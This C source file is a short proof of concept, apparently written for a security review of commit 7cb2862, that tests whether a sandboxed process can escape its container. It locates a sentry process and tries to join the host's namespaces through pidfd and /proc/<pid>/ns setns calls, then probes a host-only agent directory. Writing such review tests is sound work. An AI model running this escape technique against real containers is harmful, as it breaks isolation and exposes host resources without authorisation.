// sentryns: finds the container's in-namespace sentry and tries to join
// its (the host's) namespaces through a pidfd (setns(pidfd, ...), which
// needs no /proc/<pid>/ns access) and through /proc/<pid>/ns/*. One line
// per attempt: "<how> <ns> ok|ERR <errno>". With the mount namespace
// joined, it lists /run/syscage-agent (host-only).
//
// Review PoC for 7cb2862.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "findsentry.h"

int main(void) {
	int pid = find_sentry();
	printf("sentry %d\n", pid);
	if (!pid)
		return 1;
	struct { const char *name; int flag; } ns[] = {
		{"net", CLONE_NEWNET}, {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
		{"cgroup", CLONE_NEWCGROUP}, {"mnt", CLONE_NEWNS},
	};
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	printf("pidfd_open %s\n", pidfd >= 0 ? "ok" : strerror(errno));
	for (unsigned i = 0; i < sizeof ns / sizeof ns[0]; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, ns[i].name);
		int fd = open(path, O_RDONLY);
		printf("open-ns %s %s\n", ns[i].name, fd >= 0 ? "ok" : strerror(errno));
		if (fd >= 0 && setns(fd, ns[i].flag) == 0)
			printf("setns-path %s ok\n", ns[i].name);
		if (pidfd >= 0) {
			if (setns(pidfd, ns[i].flag) == 0)
				printf("setns-pidfd %s ok\n", ns[i].name);
			else
				printf("setns-pidfd %s ERR %s\n", ns[i].name, strerror(errno));
		}
	}
	DIR *d = opendir("/run/syscage-agent");
	printf("host-agent-dir %s\n", d ? "ok" : strerror(errno));
	return 0;
}
